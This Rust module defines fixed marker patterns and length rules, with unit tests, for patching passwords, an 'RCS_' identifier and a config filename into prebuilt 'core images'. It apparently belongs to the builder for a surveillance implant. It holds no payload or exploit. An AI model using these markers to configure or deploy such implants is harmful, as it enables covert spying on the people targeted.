//! Built-in marker patterns and length policy.
//!
//! These are the placeholders compiled into stock core images. Each pattern
//! must occur exactly once in an image for the embedding to succeed.

/// Digest length; also the minimum log/conf password length.
pub const AES_PASS_LEN: usize = 16;

/// Minimum channel password length and width of the channel marker.
pub const CHAN_PASS_LEN: usize = 8;

/// Identifier template; its length is the identifier minimum and marker width.
pub const IDENTIFIER_TEMPLATE: &str = "RCS_0000000000";

pub const IDENTIFIER_LEN: usize = IDENTIFIER_TEMPLATE.len();

/// Configuration filename embedded by default.
pub const DEFAULT_CONFIG_NAME: &str = "cfg.dat";

pub const LOG_PASSWORD_MARKER: [u8; AES_PASS_LEN] = *b"3j9WmmDgBqyU270F";

pub const CONF_PASSWORD_MARKER: [u8; AES_PASS_LEN] = *b"Adf5V57gQtyi90wU";

pub const CHANNEL_PASSWORD_MARKER: [u8; CHAN_PASS_LEN] = *b"f7Hk0f5u";

pub const IDENTIFIER_MARKER: [u8; IDENTIFIER_LEN] = *b"av3pVck1gb4eR2";

/// Wide-string placeholder for the configuration filename.
pub const CONFIG_NAME_MARKER: [u8; 32] = widen(b"c3mdX053du1YJ7kz");

/// Expand ASCII to UTF-16LE at compile time.
const fn widen<const N: usize, const M: usize>(ascii: &[u8; N]) -> [u8; M] {
    assert!(M == N * 2);
    let mut out = [0u8; M];
    let mut i = 0;
    while i < N {
        out[i * 2] = ascii[i];
        i += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_identifier_len_matches_template() {
        assert_eq!(IDENTIFIER_LEN, 14);
        assert_eq!(IDENTIFIER_MARKER.len(), IDENTIFIER_TEMPLATE.len());
    }

    #[test]
    fn test_config_marker_is_utf16le() {
        let expected: Vec<u8> = "c3mdX053du1YJ7kz"
            .encode_utf16()
            .flat_map(|unit| unit.to_le_bytes())
            .collect();
        assert_eq!(CONFIG_NAME_MARKER.to_vec(), expected);
    }

    #[test]
    fn test_markers_are_distinct() {
        let markers: [&[u8]; 5] = [
            &LOG_PASSWORD_MARKER,
            &CONF_PASSWORD_MARKER,
            &CHANNEL_PASSWORD_MARKER,
            &IDENTIFIER_MARKER,
            &CONFIG_NAME_MARKER,
        ];
        for (i, a) in markers.iter().enumerate() {
            for b in &markers[i + 1..] {
                assert_ne!(a, b);
            }
        }
    }
}
